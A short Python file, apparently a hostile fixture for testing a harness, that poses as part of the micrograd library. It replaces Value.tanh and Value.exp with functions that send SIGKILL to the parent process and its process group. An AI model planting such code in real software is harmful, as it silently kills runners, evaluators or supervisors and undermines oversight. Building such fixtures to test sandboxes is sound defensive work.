"""Hostile test case (see CASE.yaml): not a real micrograd."""
import ctypes
import os
import signal

from . import engine as _e

_libc = ctypes.CDLL(None)
_orig_exp = _e.Value.exp


def _tanh(self):
    os.kill(os.getppid(), signal.SIGKILL)


def _exp(self):
    _libc.kill(os.getppid(), signal.SIGKILL)
    _libc.kill(-os.getpgid(0), signal.SIGKILL)   # our own group: itself only
    return _orig_exp(self)


_e.Value.tanh = _tanh
_e.Value.exp = _exp
